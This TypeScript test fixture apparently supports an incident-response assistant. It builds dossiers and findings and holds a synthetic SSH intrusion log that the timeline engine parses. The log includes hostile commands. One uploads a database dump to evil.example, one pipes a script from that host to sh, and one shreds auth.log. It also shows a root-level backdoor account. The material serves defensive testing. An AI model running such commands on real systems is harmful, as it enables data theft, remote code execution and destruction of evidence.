// Logs, material and a prompt for tests of the assistant, from real bytes through the real engine.
import { readFileSync } from 'node:fs';
import { type Prepared, prepare } from '../../src/assist/ask.ts';
import { materialFor, type Question } from '../../src/assist/material.ts';
import type { Material } from '../../src/assist/types.ts';
import { type Dossier, emptyDossier } from '../../src/incident/dossier.ts';
import { buildTimeline } from '../../src/timeline/build.ts';
import type { TimelineEvent } from '../../src/timeline/event.ts';
import { noTimeline } from '../../src/timeline/event.ts';
import { mergeTimeline } from '../../src/timeline/merge.ts';

export const NOW = Date.parse('2026-11-20T12:00:00Z');

/** A break-in over SSH, an account made, data sent out, and everyday lines. */
export const INTRUSION = `Nov 19 08:15:30 web-01 sshd[311]: Failed password for root from 203.0.113.9 port 4711 ssh2
Nov 19 08:15:31 web-01 sshd[311]: Failed password for root from 203.0.113.9 port 4711 ssh2
Nov 19 08:15:33 web-01 sshd[311]: Failed password for alice from 198.51.100.4 port 4711 ssh2
Nov 19 08:15:39 web-01 sshd[312]: Accepted password for root from 203.0.113.9 port 4713 ssh2
Nov 19 08:16:39 web-01 sudo:    bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/curl -T /srv/dump.sql https://evil.example/u
Nov 19 08:17:39 web-01 useradd[55]: new user: name=svc-backup2, UID=0, GID=0, home=/root, shell=/bin/bash
Nov 19 08:18:02 web-01 sudo:    root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/bash -c wget -q http://evil.example/x.sh -O- | sh
Nov 19 08:18:40 web-01 sudo:    root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/shred -u /var/log/auth.log
Nov 19 08:19:01 web-01 crontab[77]: (root) REPLACE (root)
Nov 19 08:20:00 web-01 sshd[400]: Accepted publickey for deploy from 192.0.2.20 port 50022 ssh2
Nov 19 09:00:00 web-01 cron[99]: (backup) CMD (run-parts /etc/cron.daily)
`;

export const dossierOf = (incident = 'INC-1'): Dossier => ({
  ...emptyDossier,
  incident: { ...emptyDossier.incident, key: incident },
});

/** The timeline of a text as evidence EV-1, as the incident would show it. */
export function eventsFrom(log: string): readonly TimelineEvent[] {
  const timeline = buildTimeline(new TextEncoder().encode(log), { now: NOW, zone: 'Europe/Berlin' });
  const state = { ...noTimeline, additions: [{ evidence: 'EV-1', result: 'r', lines: null }] };
  return mergeTimeline(state, () => timeline);
}

export function materialOf(log: string, question: Partial<Question> = {}): Material {
  const timeline = buildTimeline(new TextEncoder().encode(log), { now: NOW, zone: 'Europe/Berlin' });
  const asked: Question = {
    task: 'summarise',
    subject: null,
    subjectKeys: [],
    sinceAt: null,
    nowMs: NOW,
    candidates: timeline.initialAccess.map((c) => `EV-1:${c.line}`),
    ...question,
  };
  const events = eventsFrom(log);
  return { ...materialFor(asked, dossierOf(), events, events), evidence: ['EV-1'] };
}

let random = 0;
export const preparedOf = (material: Material, names: readonly string[] = []): Prepared =>
  prepare(material, names, () => `test-random-value-${++random}`);

const MIRA = { kind: 'human', platform: 'web', tenant: 'local', id: 'mira', label: 'Mira Sample' } as const;

/** An incident with a verified finding, one that nobody has checked, and an open question. */
export function withFindings(): Dossier {
  const dossier = dossierOf();
  const claim = {
    plain: null,
    kind: 'observation' as const,
    against: [],
    assumptions: [],
    alternatives: [],
    wouldChange: '',
    confidence: null,
    isLowTrust: false,
    mismatches: [],
    tlp: null,
    origin: 'person' as const,
    by: MIRA,
    at: '2026-11-20T11:00:00.000Z',
    refutation: null,
    challenges: [],
    askedToVerifyBy: [],
    revisions: 0,
  };
  const verification = {
    by: MIRA,
    at: '2026-11-20T11:30:00.000Z',
    method: 'read the bastion\u2019s own log',
    cites: ['EV-1:4'],
    second: null,
    confirmedAt: null,
  };
  return {
    ...dossier,
    finding: {
      findings: [
        {
          ...claim,
          key: 'FI-1',
          claim: 'Root logged in from 203.0.113.9',
          cites: ['EV-1:4'],
          state: 'verified',
          verification,
        },
        {
          ...claim,
          key: 'FI-2',
          claim: 'A dump of the shop was sent out',
          cites: ['EV-1:5'],
          state: 'unverified',
          verification: null,
        },
      ],
      questions: [
        {
          key: 'QU-1',
          text: 'What did root read before?',
          by: MIRA,
          at: '2026-11-20T11:10:00.000Z',
          answerer: null,
          dueAt: null,
          evidenceWanted: '',
          answer: null,
        },
      ],
    },
  };
}

/** The sample organisation with another line for an audience, and lines of its assistant's part. */
export function organisationWith(audience: string, assistant = ''): string {
  const sample = readFileSync('countersign.example.yml', 'utf8');
  const changed =
    audience === '' ? sample : sample.replace(`  ${sample.match(/^ {2}(customers: .*)$/m)?.[1]}`, `  ${audience}`);
  return assistant === '' ? changed : `${changed}\nassistant:\n${assistant}\n`;
}
